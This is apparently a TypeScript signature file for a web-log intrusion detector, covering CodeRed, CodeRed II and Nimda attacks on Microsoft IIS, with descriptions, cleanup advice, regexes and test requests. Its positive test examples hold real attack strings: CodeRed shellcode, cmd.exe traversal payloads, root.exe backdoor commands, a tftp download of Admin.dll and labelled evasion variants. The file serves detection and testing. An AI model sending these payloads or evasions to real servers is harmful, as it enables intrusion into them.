import type { Signature } from '../types.js';

/** The CodeRed shellcode tail, as in CERT CA-2001-19 and every 2001 log. */
const CODERED_TAIL = '%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u9090%u8190%u00c3%u0003%u8b00%u531b%u53ff%u0078%u0000%u00=a';

const HONEYNET = 'honeynet-2004 corpus (Apache access_log, 2004)';

/** Look-alikes from real, harmless traffic that no IIS-worm signature may match. */
export const IIS_LOOKALIKES = [
  { request: 'GET /MSOffice/cltreq.asp?UL=1&ACT=4&BUILD=2614&STRMVER=4&CAPREQ=0 HTTP/1.1', source: 'Internet Explorer discussion bar (Office Server Extensions)' },
  { request: 'POST /_vti_bin/owssrv.dll HTTP/1.1', source: 'Internet Explorer discussion bar' },
  { request: 'GET /search?q=default.ida HTTP/1.1', source: 'a search for the words default.ida' },
  { request: 'GET /images/NNN/XXX-large.jpg HTTP/1.1', source: 'an ordinary path with NNN and XXX' },
];

export const iis2001: Signature[] = [
  {
    id: 'codered-i', family: 'codered', title: 'CodeRed worm (N variant)',
    description:
      'CodeRed (July 2001) is a worm that spreads between Microsoft IIS web servers through a buffer overflow in the Indexing Service ISAPI extension (idq.dll). ' +
      'The request asks for /default.ida followed by a long run of the letter N and shellcode written as %u escapes; on an unpatched server it runs the worm in memory, which defaces pages and attacks other hosts. ' +
      'The sending host is infected. To clean it: apply Microsoft bulletin MS01-033 (or retire the Windows NT/2000 server), reboot to clear the in-memory worm, and remove the .ida/.idq script mappings if the Indexing Service is not needed.',
    references: ['CVE-2001-0500', 'MS01-033', 'CERT CA-2001-19', 'Snort SID 1243', 'Snort SID 1244'],
    stage: 'request', stageReason: 'The overflow payload itself is the attack; no legitimate client sends it.',
    match: { target: 'url', pattern: '^[^?]*/default\\.ida(?:/[^?]*|)\\?n{20,}', literals: ['default.ida'] },
    examples: {
      positive: [
        { request: `GET /default.ida?${'N'.repeat(224)}${CODERED_TAIL} HTTP/1.0`, source: 'CERT CA-2001-19' },
        // What IIS still resolves to /default.ida: dot segments, encoded letters, an NTFS stream name, path info.
        { request: `GET /./default.ida?${'N'.repeat(224)}${CODERED_TAIL} HTTP/1.0`, source: 'evasion: dot segment' },
        { request: `GET /scripts/%2e%2e/default.%69da?${'N'.repeat(224)}${CODERED_TAIL} HTTP/1.0`, source: 'evasion: encoded dot segment and letter' },
        { request: `GET /default.ida::$DATA?${'N'.repeat(224)}${CODERED_TAIL} HTTP/1.0`, source: 'evasion: NTFS stream name' },
        { request: `GET /default.ida/x.htm?${'N'.repeat(224)}${CODERED_TAIL} HTTP/1.0`, source: 'evasion: path info' },
        // IIS runs the .ida mapping whatever folder the file is said to be in.
        { request: `GET //host:80/x%5c../default.ida%3a%3a$DATA?${'N'.repeat(224)}${CODERED_TAIL} HTTP/1.1`, source: 'fuzz seed 1: a folder before it, encoded stream name' },
      ],
      negative: [{ request: 'GET /NNNNNNNN/default.htm HTTP/1.1' }, ...IIS_LOOKALIKES],
    },
  },
  {
    id: 'codered-ii', family: 'codered', title: 'CodeRed II worm (X variant)',
    description:
      'CodeRed II (August 2001) reuses the CodeRed overflow in the IIS Indexing Service (idq.dll) with a run of the letter X instead of N. ' +
      'On a vulnerable server it installs a backdoor: it copies cmd.exe to root.exe in the scripts and MSADC folders and patches Explorer so that every drive is shared over the web. ' +
      'The sending host is infected and open to anyone. To clean it: apply MS01-033, delete root.exe from \\inetpub\\scripts and \\program files\\common files\\system\\msadc, delete \\explorer.exe from the root of C: and D:, reboot, and check for further intruders; reinstalling is the safe choice.',
    references: ['CVE-2001-0500', 'MS01-033', 'CERT IN-2001-09', 'Snort SID 1243'],
    stage: 'request', stageReason: 'The overflow payload itself is the attack; no legitimate client sends it.',
    match: { target: 'url', pattern: '^[^?]*/default\\.ida(?:/[^?]*|)\\?x{20,}', literals: ['default.ida'] },
    examples: {
      positive: [
        { request: `GET /default.ida?${'X'.repeat(224)}${CODERED_TAIL} HTTP/1.0`, source: HONEYNET },
        { request: `GET /x/../default.ida.?${'X'.repeat(224)}${CODERED_TAIL} HTTP/1.0`, source: 'evasion: dot segments and a trailing dot' },
      ],
      negative: [{ request: 'GET /default.ida HTTP/1.1' }, ...IIS_LOOKALIKES],
    },
  },
  {
    id: 'iis-ida-idq-overflow', family: 'codered', title: 'IIS Indexing Service (.ida/.idq) overflow attempt',
    description:
      'A request to an Indexing Service script (.ida or .idq) with an oversized query or %u-encoded machine code: the buffer overflow that CodeRed and its copies use against Microsoft IIS 4 and 5. ' +
      'On an unpatched server it runs the attacker\'s code with system rights. ' +
      'The sending host is most likely infected by a CodeRed-style worm or runs an exploit tool. To fix it: apply MS01-033 or retire the server, and remove the .ida/.idq mappings if unused.',
    references: ['CVE-2001-0500', 'MS01-033', 'Snort SID 1243'],
    stage: 'request', stageReason: 'An overflow-sized query or shellcode escapes are never sent by a legitimate client.',
    match: { target: 'raw', pattern: '^[^?]*\\.id[aq](?:::\\$data|/[^?]*|)\\?(?:[^ ]{0,240}%u[0-9a-f]{4}|.{240})', literals: ['.ida', '.idq'] },
    examples: {
      positive: [
        { request: `GET /scripts/query.idq?${'A'.repeat(300)} HTTP/1.0` },
        { request: 'GET /NULL.ida?%u9090%u6858%ucbd3%u7801 HTTP/1.0' },
      ],
      negative: [{ request: 'GET /search/query.idq?CiRestriction=report&CiMaxRecordsPerPage=10 HTTP/1.1' }, ...IIS_LOOKALIKES],
    },
  },
  {
    id: 'nimda-double-decode', family: 'nimda', title: 'Nimda double-encoded directory traversal',
    description:
      'Nimda (September 2001) and related IIS worms send paths such as /scripts/..%255c../winnt/system32/cmd.exe, where the backslash is percent-encoded twice. ' +
      'Unpatched IIS 4/5 decoded the path twice and let the request escape the web root and run cmd.exe, through which the worm copies itself to the server. ' +
      'The sending host is infected. To clean it: disconnect it, apply MS01-026 and MS01-044 (cumulative IIS patches), remove Nimda with an antivirus tool (it also spreads by e-mail, open shares and infected web pages: look for readme.exe, readme.eml and admin.dll), and preferably reinstall.',
    references: ['CVE-2001-0333', 'MS01-026', 'CERT CA-2001-26'],
    stage: 'request', stageReason: 'A doubly encoded "../" is never produced by a browser; it only exists to defeat a decoder.',
    match: {
      target: 'raw',
      pattern: '\\.\\.(?:%25(?:5c|2f|%35%63|%35c|%32%66|%32f)|%%35(?:%63|c)|%%32(?:%66|f))|\\.%252e/',
      literals: ['..%25', '..%%', '.%252e'],
    },
    examples: {
      positive: [
        { request: 'GET /scripts/..%255c../winnt/system32/cmd.exe?/c+dir HTTP/1.0', source: HONEYNET },
        { request: 'GET /_vti_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe?/c+dir HTTP/1.0', source: HONEYNET },
        { request: 'GET /_mem_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe?/c+dir HTTP/1.0', source: HONEYNET },
        { request: 'GET /msadc/..%255c../..%255c../..%255c/..%c1%1c../..%c1%1c../..%c1%1c../winnt/system32/cmd.exe?/c+dir HTTP/1.0', source: HONEYNET },
        { request: 'GET /scripts/..%%35%63../winnt/system32/cmd.exe?/c+dir HTTP/1.0', source: HONEYNET },
        { request: 'GET /scripts/..%%35c../winnt/system32/cmd.exe?/c+dir HTTP/1.0', source: HONEYNET },
        { request: 'GET /scripts/..%25%35%63../winnt/system32/cmd.exe?/c+dir HTTP/1.0', source: HONEYNET },
        { request: 'GET /scripts/..%252f../winnt/system32/cmd.exe?/c+dir HTTP/1.0', source: HONEYNET },
        { request: 'GET /_vti_bin/.%252e/.%252e/.%252e/.%252e/winnt/system32/cmd.exe?/c+dir+c: HTTP/1.1', source: HONEYNET },
      ],
      negative: [{ request: 'GET /job/folder%252Fproject/ HTTP/1.1', source: 'Jenkins-style doubly encoded slash in a name' }, ...IIS_LOOKALIKES],
    },
  },
  {
    id: 'nimda-unicode-traversal', family: 'nimda', title: 'Nimda Unicode (overlong UTF-8) directory traversal',
    description:
      'Nimda and the earlier sadmind/IIS worm send paths such as /scripts/..%c0%af../winnt/system32/cmd.exe, where "/" or "\\" is written as an invalid, overlong UTF-8 sequence (%c0%af, %c1%1c, %c1%9c, %c0%2f) or as %u002f. ' +
      'Unpatched IIS 4/5 accepted these after its security check and let the request run cmd.exe outside the web root. ' +
      'The sending host is infected. To clean it: apply MS00-078 and MS01-026, remove the worm with an antivirus tool, check for root.exe and admin.dll, and preferably reinstall.',
    references: ['CVE-2000-0884', 'MS00-078', 'CERT CA-2001-26', 'CERT CA-2001-11', 'Snort SID 981', 'Snort SID 982', 'Snort SID 983'],
    stage: 'request', stageReason: 'Overlong UTF-8 is invalid and never sent by a browser; next to ".." it only serves to escape the web root.',
    match: { target: 'raw', pattern: '\\.\\.(?:%c[01]%[0-9a-z]{2}|%e0%80%af|%u00(?:2f|5c))', literals: ['..%c0%', '..%c1%', '..%e0%', '..%u00'] },
    examples: {
      positive: [
        { request: 'GET /scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir HTTP/1.0', source: HONEYNET },
        { request: 'GET /scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir HTTP/1.0', source: HONEYNET },
        { request: 'GET /scripts/..%c1%9c../winnt/system32/cmd.exe?/c+dir HTTP/1.0', source: HONEYNET },
        { request: 'GET /scripts/..%c0%2f../winnt/system32/cmd.exe?/c+dir HTTP/1.0', source: HONEYNET },
        { request: 'GET /scripts/..%c0%qf../winnt/system32/cmd.exe?/c+dir+c: HTTP/1.1', source: HONEYNET },
      ],
      negative: [{ request: 'GET /wiki/%C3%81lvaro HTTP/1.1', source: 'valid UTF-8 in a path' }, ...IIS_LOOKALIKES],
    },
  },
  {
    id: 'nimda-root-exe', family: 'nimda', title: 'Nimda probe for the CodeRed II root.exe backdoor',
    description:
      'Nimda first asks for /scripts/root.exe and /MSADC/root.exe: the copies of cmd.exe that CodeRed II leaves behind as a backdoor. If one answers, the worm runs commands through it (root.exe?/c+dir, then /c+tftp to download itself). ' +
      'The sending host is infected with Nimda or a similar worm. To clean it: disconnect it, remove the worm with an antivirus tool, apply the cumulative IIS patch (MS01-044 or later), delete any root.exe under the web folders, and preferably reinstall.',
    references: ['CERT CA-2001-26', 'CVE-2001-0500', 'Snort SID 1256'],
    stage: 'request', stageReason: 'Running a command through the CodeRed II backdoor is never legitimate.',
    match: { target: 'url', pattern: '/(?:scripts|msadc)/root\\.exe(?:$|[?/])|/root\\.exe(?:/[^?]*|)\\?/c[+ ]', literals: ['root.exe'] },
    examples: {
      positive: [
        { request: 'GET /scripts/root.exe?/c+dir HTTP/1.0', source: HONEYNET },
        { request: 'GET /MSADC/root.exe?/c+dir HTTP/1.0', source: HONEYNET },
        { request: 'GET /scripts/./r%6fot.exe::$DATA?/c+dir HTTP/1.0', source: 'evasion: dot segment, encoded letter, NTFS stream name' },
        { request: 'GET /msadc/root.exe/x?/c+dir HTTP/1.0', source: 'evasion: path info' },
        { request: 'GET /root.exe?/c+tftp%20-i%20192.0.2.7%20GET%20Admin.dll%20c:\\Admin.dll HTTP/1.0', source: 'CERT CA-2001-26 (tftp step)' },
      ],
      negative: [{ request: 'GET /downloads/chroot.exe.zip HTTP/1.1' }, ...IIS_LOOKALIKES],
    },
  },
  {
    id: 'nimda-cmd-exe', family: 'nimda', title: 'IIS worm running cmd.exe',
    description:
      'A request that runs the Windows command interpreter through the web server (/c/winnt/system32/cmd.exe?/c+dir, or cmd.exe?/c+... after a traversal). Nimda and the sadmind/IIS worm use it to list drives and then fetch their own copy with tftp. ' +
      'The sending host is infected. To clean it: disconnect it, remove the worm with an antivirus tool, apply MS00-078, MS01-026 and the later cumulative IIS patches, and preferably reinstall.',
    references: ['CERT CA-2001-26', 'CERT CA-2001-11', 'MS00-078', 'Snort SID 1002'],
    stage: 'request', stageReason: 'A web request that runs cmd.exe is an attack whatever the answer.',
    match: { target: 'url', pattern: '/(?:winnt|windows)/system32/cmd\\.exe|/cmd\\.exe(?:/[^?]*|)\\?/c[+ ]', literals: ['/cmd.exe'] },
    examples: {
      positive: [
        { request: 'GET /c/winnt/system32/cmd.exe?/c+dir HTTP/1.0', source: HONEYNET },
        { request: 'GET /d/winnt/system32/cmd.exe?/c+dir HTTP/1.0', source: HONEYNET },
        { request: 'GET /scripts/cmd.exe./x?/c+dir HTTP/1.0', source: 'evasion: trailing dot and path info' },
        { request: 'GET /scripts/tradecli.dll?template=nonexistfile?template=..\\..\\..\\..\\..\\winnt\\system32\\cmd.exe?/c+dir HTTP/1.0', source: HONEYNET },
      ],
      negative: [{ request: 'GET /docs/windows/cmd-exe-reference.html HTTP/1.1' }, ...IIS_LOOKALIKES],
    },
  },
  {
    id: 'nimda-admin-dll', family: 'nimda', title: 'Nimda Admin.dll request',
    description:
      'Admin.dll is the file name under which Nimda copies itself onto a web server it has broken into (through tftp), and which it then asks for to start itself. ' +
      'The sending host is infected with Nimda. To clean it: disconnect it, remove Nimda with an antivirus tool (look for admin.dll, readme.exe and readme.eml), apply the cumulative IIS patch, and preferably reinstall.',
    references: ['CERT CA-2001-26'],
    stage: 'request', stageReason: 'Only Nimda puts an admin.dll in the scripts folder or the web root; FrontPage\'s own _vti_adm/admin.dll is not matched.',
    match: { target: 'path', pattern: '(?:^|/scripts|/msadc|/_mem_bin|/_vti_bin|/\\.\\.)/admin\\.dll$', literals: ['admin.dll'] },
    examples: {
      positive: [
        { request: 'GET /scripts/Admin.dll HTTP/1.0', source: 'CERT CA-2001-26' },
        { request: 'GET /Admin.dll HTTP/1.0', source: 'CERT CA-2001-26' },
      ],
      negative: [{ request: 'POST /_vti_bin/_vti_adm/admin.dll HTTP/1.1', source: 'FrontPage Server Extensions administration' }, ...IIS_LOOKALIKES],
    },
  },
  {
    id: 'iis-backdoor-dll', family: 'nimda', title: 'Probe for the cool.dll / httpodbc.dll IIS backdoor',
    description:
      'Worms and intruders of the Nimda era uploaded a backdoor DLL with tftp (as cool.dll, saved as httpodbc.dll in the scripts folder) and then requested it to take control of the server. ' +
      'A request for it where no such file exists means the sender is scanning for servers it or others already backdoored. ' +
      'The sending host is very likely infected or compromised: remove the malware with an antivirus tool, apply the cumulative IIS patches, and preferably reinstall.',
    references: ['CERT CA-2001-26', 'Nikto database: /scripts/httpodbc.dll (possible IIS backdoor)'],
    stage: '404', stageReason: 'httpodbc.dll is also the real Internet Database Connector of IIS, so only a request for a missing copy is suspicious.',
    match: { target: 'path', pattern: '/(?:cool|httpodbc)\\.dll$', literals: ['cool.dll', 'httpodbc.dll'] },
    examples: {
      positive: [{ request: 'GET /scripts/httpodbc.dll HTTP/1.0' }, { request: 'GET /scripts/cool.dll HTTP/1.0' }],
      negative: [{ request: 'GET /scripts/httpodbc.dll/report.idc?q=1 HTTP/1.0', source: 'Internet Database Connector path form' }, ...IIS_LOOKALIKES],
    },
  },
];
